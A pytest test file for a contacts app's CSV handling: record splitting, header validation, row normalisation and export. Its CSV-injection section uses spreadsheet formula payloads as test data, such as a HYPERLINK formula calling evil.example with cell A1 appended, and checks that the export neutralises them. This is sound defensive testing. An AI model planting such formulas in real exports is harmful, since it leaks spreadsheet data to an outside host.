"""The CSV format of contacts: the record splitter, the header, row parsing, export cells."""

import csv
import io
import itertools
import random
from datetime import UTC, datetime

import pytest

from contacts.leads.csv_format import (
    EXPORT_COLUMNS,
    ContactRow,
    Header,
    InvalidCsv,
    Record,
    RecordSplitter,
    export_cell,
    export_row,
    import_cell,
    parse_row,
    to_csv,
)
from contacts.leads.domain import Contact, InvalidContact
from gala.contracts.contacts import ContactStatus, LeadSource

BOM = b"\xef\xbb\xbf"


def split(data: bytes, sizes=None, max_chars=None) -> list[Record]:
    """Feed ``data`` in chunks of the given sizes (cycled), then close."""
    splitter = RecordSplitter(max_chars) if max_chars else RecordSplitter()
    records: list[Record] = []
    sizes = sizes or [len(data) or 1]
    position, turn = 0, 0
    while position < len(data):
        size = sizes[turn % len(sizes)]
        records += splitter.feed(data[position : position + size])
        position += size
        turn += 1
    return records + splitter.close()


def fields(records):
    return [(r.line, r.fields) for r in records]


# --- the splitter ---------------------------------------------------------------------


def test_plain_records_with_their_line_numbers():
    data = b"name,email\nAda,ada@example.com\nBob,bob@example.com\n"
    assert fields(split(data)) == [
        (1, ["name", "email"]),
        (2, ["Ada", "ada@example.com"]),
        (3, ["Bob", "bob@example.com"]),
    ]


def test_the_last_record_needs_no_newline_and_crlf_is_a_newline():
    data = b"a,b\r\nc,d\r\ne,f"
    assert fields(split(data)) == [(1, ["a", "b"]), (2, ["c", "d"]), (3, ["e", "f"])]


def test_quoted_fields_hold_commas_quotes_and_newlines():
    data = b'name,notes\r\n"Lovelace, Ada","she said ""hi""\r\nand left"\r\n"",","\r\nnext,"x"\r\n'
    assert fields(split(data)) == [
        (1, ["name", "notes"]),
        (2, ["Lovelace, Ada", 'she said "hi"\r\nand left']),
        (4, ["", ","]),  # starts on line 4: the record before spans lines 2 and 3
        (5, ["next", "x"]),
    ]


def test_a_quoted_field_may_span_many_lines_and_close_at_the_end_of_input():
    data = b'a,"1\n2\n\n3"\nb,c\nd,"e\nf"'
    assert fields(split(data)) == [(1, ["a", "1\n2\n\n3"]), (5, ["b", "c"]), (6, ["d", "e\nf"])]


def test_empty_fields_and_a_trailing_comma():
    assert fields(split(b',,x,\n"",a,,""\n')) == [(1, ["", "", "x", ""]), (2, ["", "a", "", ""])]


def test_a_bom_is_skipped_and_blank_records_are_not_records():
    data = BOM + b"name,email\n\n,\r\nAda,ada@example.com\n\n"
    assert fields(split(data)) == [(1, ["name", "email"]), (4, ["Ada", "ada@example.com"])]


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7])
def test_chunks_can_cut_anywhere_even_inside_a_character_a_bom_or_a_crlf(size):
    text = 'name,notes\r\n"Zoë ""Z"", 漢字","😀\r\nnaïve"\r\nÅsa,€\r\n'
    data = BOM + text.encode()
    expected = [(1, ["name", "notes"]), (2, ['Zoë "Z", 漢字', "😀\r\nnaïve"]), (4, ["Åsa", "€"])]
    assert fields(split(data, [size])) == expected
    assert fields(split(data, [size, 1, size + 2])) == expected


def test_it_reads_what_pythons_csv_writes_whatever_the_chunks():
    rng = random.Random(7)
    alphabet = ["a", "Z", "é", "漢", "😀", ",", '"', "\n", "\r\n", " ", ""]
    for _ in range(400):
        rows = [
            ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(3)]
            for _ in range(rng.randint(1, 5))
        ]
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator=rng.choice(["\r\n", "\n"])).writerows(rows)
        text = buffer.getvalue()
        expected = [row for row in csv.reader(io.StringIO(text, newline="")) if any(row)]
        data = (BOM if rng.random() < 0.5 else b"") + text.encode()
        records = split(data, [rng.randint(1, 9) for _ in range(5)])
        assert all(r.error is None for r in records), text
        assert [r.fields for r in records] == expected, text


def test_a_bare_quote_rejects_its_record_only():
    data = b'a,b\nAda,say "hi"\nBob,"x"y\nCy,"ok"\n'
    records = split(data)
    assert [(r.line, r.error is not None) for r in records] == [
        (1, False),
        (2, True),
        (3, True),
        (4, False),
    ]
    assert "quote inside an unquoted field" in records[1].error
    assert "closing quote must be followed by a comma" in records[2].error
    assert records[3].fields == ["Cy", "ok"]


def test_a_quote_never_closed_is_an_error_at_the_end():
    records = split(b'a,b\nAda,"open\nmore\n')
    assert records[0].fields == ["a", "b"]
    assert records[1].line == 2
    assert "never closed" in records[1].error


def test_invalid_utf8_rejects_only_its_record():
    data = b"a,b\nAda,\xff\xfe\nBob,ok\nCy,\xe2\x82"  # the last one ends mid-character
    records = split(data, [3])
    assert [(r.line, r.fields, r.error) for r in records] == [
        (1, ["a", "b"], None),
        (2, [], "the record is not valid UTF-8 text"),
        (3, ["Bob", "ok"], None),
        (4, [], "the record is not valid UTF-8 text"),
    ]


def test_a_runaway_record_stops_the_splitter_and_memory_stays_bounded():
    splitter = RecordSplitter(max_chars=100)
    records = splitter.feed(b'a,b\nAda,"never closed\n')
    assert fields(records) == [(1, ["a", "b"])]
    for _ in range(10):
        records += splitter.feed(b"x" * 30 + b"\n")
    assert splitter.stopped
    assert records[-1].line == 2
    assert "runs past 100 characters" in records[-1].error
    assert splitter.feed(b"c,d\n") == []
    assert splitter.close() == []


def test_a_line_without_any_newline_cannot_grow_without_bound():
    splitter = RecordSplitter(max_chars=50)
    records = splitter.feed(b"a,b\n")
    for _ in range(5):
        records += splitter.feed(b"y" * 20)
    assert splitter.stopped
    assert (records[-1].line, "runs past" in records[-1].error) == (2, True)


# --- the header -----------------------------------------------------------------------


def test_a_header_takes_known_columns_in_any_order_and_any_case():
    header = Header.of(Record(1, [" Email ", "NAME", "customfields", "leadSource", "id"]))
    assert header.columns == ("email", "name", "customFields", "leadSource", "id")


def test_an_export_header_is_an_import_header():
    assert Header.of(Record(1, list(EXPORT_COLUMNS))).columns == EXPORT_COLUMNS


@pytest.mark.parametrize(
    ("cells", "reason"),
    [
        (["name", "email", "company"], "Unknown column(s) 'company'"),
        (["Ada", "ada@example.com"], "Unknown column(s) 'Ada', 'ada@example.com'"),
        (["name", "phone"], "lacks the column(s) email"),
        (["phone"], "lacks the column(s) name, email"),
        (["name", "email", "Name"], "name appear more than once"),
    ],
)
def test_a_bad_header_refuses_the_file_with_a_reason(cells, reason):
    with pytest.raises(InvalidCsv) as caught:
        Header.of(Record(1, cells))
    assert reason in caught.value.detail
    assert caught.value.status == 422


def test_an_unreadable_header_refuses_the_file():
    with pytest.raises(InvalidCsv, match="line 1"):
        Header.of(Record(1, [], "a quoted field opened on this line is never closed"))


# --- rows -----------------------------------------------------------------------------

HEADER = Header.of(Record(1, list(EXPORT_COLUMNS[1:7])))  # the import columns


def row(line=2, **cells):
    values = {"name": "Ada", "email": "ada@example.com", **cells}
    return HEADER.row(Record(line, [values.get(column, "") for column in HEADER.columns]))


def test_a_row_is_normalised_by_the_domains_rules():
    parsed = row(
        7,
        name="  Ada   Lovelace ",
        email=" Ada@Example.COM ",
        phone="+44 (20) 7946-0958",
        leadSource=" referral ",
        status="prospect",
        customFields='{"dietary.needs": "vegan", "$budget": 12000, "n": 1.5}',
    )
    assert parsed == ContactRow(
        line=7,
        name="Ada Lovelace",
        email="ada@example.com",
        phone="+442079460958",
        lead_source=LeadSource.REFERRAL,
        status=ContactStatus.PROSPECT,
        custom_fields={"dietary.needs": "vegan", "$budget": 12000, "n": 1.5},
    )


def test_empty_cells_are_not_given():
    assert row() == ContactRow(line=2, name="Ada", email="ada@example.com")


def test_ignored_columns_are_ignored():
    header = Header.of(Record(1, ["id", "name", "email", "leadHeat", "createdAt"]))
    parsed = header.row(Record(3, ["whatever", "Ada", "ada@example.com", "x", "yesterday"]))
    assert parsed == ContactRow(line=3, name="Ada", email="ada@example.com")


@pytest.mark.parametrize(
    ("cells", "reason"),
    [
        ({"email": "not-an-email"}, "'not-an-email' is not a valid email address."),
        ({"email": " "}, "A contact needs an email address."),
        ({"name": "   "}, "A contact needs a name."),
        ({"name": "x" * 201}, "A name has at most 200 characters."),
        ({"phone": "call me"}, "'call me' does not look like a phone number."),
        ({"leadSource": "CARRIER_PIGEON"}, "'CARRIER_PIGEON' is not a leadSource (one of WEBSITE"),
        ({"status": "ASLEEP"}, "'ASLEEP' is not a status (one of UNQUALIFIED"),
        ({"customFields": "{not json"}, "customFields is not valid JSON (Expecting property"),
        ({"customFields": "[1, 2]"}, "customFields must be a JSON object."),
        ({"customFields": '{"a": NaN}'}, "NaN is not a JSON number"),
        ({"customFields": '{"a": 1e999}'}, "1e999 is too large a number"),
        ({"customFields": '{"a": "' + "x" * 17_000 + '"}'}, "customFields may take at most"),
    ],
)
def test_a_bad_row_says_why(cells, reason):
    with pytest.raises(InvalidContact) as caught:
        row(**cells)
    assert reason in caught.value.detail


def test_a_row_with_another_number_of_fields_is_rejected():
    with pytest.raises(InvalidContact, match="The row has 2 fields; the header has 6"):
        HEADER.row(Record(4, ["Ada", "ada@example.com"]))


def test_a_record_the_splitter_could_not_read_is_a_rejected_row():
    with pytest.raises(InvalidContact, match=r"^The record is not valid UTF-8 text\.$"):
        HEADER.row(Record(4, [], "the record is not valid UTF-8 text"))


def test_parse_row_takes_cells_by_column():
    assert parse_row({"name": "Ada", "email": "ADA@example.com"}, 9) == ContactRow(
        line=9, name="Ada", email="ada@example.com"
    )


# --- export ---------------------------------------------------------------------------


def test_an_exported_contact_reads_back_as_the_same_details():
    contact = Contact.create(
        venue_id="v",
        name='Zoë "Z", the 2nd',
        email="zoe@example.com",
        phone="+44 20 7946 0958",
        lead_source=LeadSource.INSTAGRAM,
        status=ContactStatus.LEAD,
        custom_fields={"note": "line one\nline two", "Ω-key": [1, {"b": None}]},
        now=datetime(2026, 6, 1, 12, 30, tzinfo=UTC),
    )
    data = to_csv([EXPORT_COLUMNS, export_row(contact)])
    assert data.startswith(
        b"id,name,email,phone,leadSource,status,customFields,leadHeat,createdAt\r\n"
    )
    header_record, record = split(data, [3])
    assert record.fields[0] == contact.id
    assert record.fields[-2:] == [str(contact.lead_heat), "2026-06-01T12:30:00+00:00"]
    assert Header.of(header_record).row(record) == ContactRow(
        line=2,
        name=contact.name,
        email=contact.email,
        phone=contact.phone,
        lead_source=LeadSource.INSTAGRAM,
        status=ContactStatus.LEAD,
        custom_fields=contact.custom_fields,
    )


# --- formula cells (CSV injection) ------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-5", "'-5"),
        ("@", "'@"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=x", "''=x"),  # a quote before a formula: one more quote, stripped back
        ("''-1", "'''-1"),
        ("'", "'"),  # quotes alone start no formula: untouched
        ("''", "''"),
        ("'abc", "'abc"),
        ("a=b", "a=b"),
        ("5-3", "5-3"),
        ("", ""),
        ("plain", "plain"),
        (" =x", " =x"),  # a space first: not one of OWASP's formula starts
    ],
)
def test_a_formula_cell_gets_one_quote_and_reads_back_as_it_was(value, cell):
    assert export_cell(value) == cell
    assert import_cell(cell) == value


@pytest.mark.parametrize("cell", ["'", "''", "'abc", "a'=b", "x", "", "'' =x", "=raw", "+raw"])
def test_the_import_strips_a_quote_only_before_a_formula_start(cell):
    # what the export cannot have quoted is read as given (a hand-made "=raw" too)
    assert import_cell(cell) == cell


def test_no_exported_cell_starts_a_formula_and_every_value_reads_back():
    rng = random.Random(13)
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "1", '"', ","]
    for _ in range(5000):
        value = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
        cell = export_cell(value)
        assert not cell.startswith(FORMULA_STARTS), (value, cell)
        assert import_cell(cell) == value, value
    # two values never share a cell: the scheme is one-to-one
    values = {"".join(p) for n in range(4) for p in itertools.product(alphabet[:8], repeat=n)}
    assert len({export_cell(v) for v in values}) == len(values)


def test_an_exported_contact_with_formula_values_is_neutralised_and_reads_back():
    contact = Contact.create(
        venue_id="v",
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        email="-ada@example.com",
        phone="+33 6 12 34 56 78",
        lead_source=LeadSource.WEBSITE,
        custom_fields={"message": "@SUM(1+1)"},  # JSON: its cell starts with "{"
        now=datetime(2026, 6, 1, 12, 30, tzinfo=UTC),
    )
    data = to_csv([EXPORT_COLUMNS, export_row(contact)])
    header_record, record = split(data)
    name, email, phone = record.fields[1:4]
    assert name == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (email, phone) == ("'-ada@example.com", "'+33612345678")
    assert not any(cell.startswith(FORMULA_STARTS) for cell in record.fields)
    row = Header.of(header_record).row(record)
    assert (row.name, row.email, row.phone, row.custom_fields) == (
        contact.name,
        contact.email,
        "+33612345678",
        {"message": "@SUM(1+1)"},
    )


def test_a_hand_made_file_with_a_quoted_phone_imports_the_phone():
    data = b"name,phone,email\r\nAda,'+33 6 12 34 56 78,ada@example.com\r\n"
    header_record, record = split(data)
    assert Header.of(header_record).row(record).phone == "+33612345678"
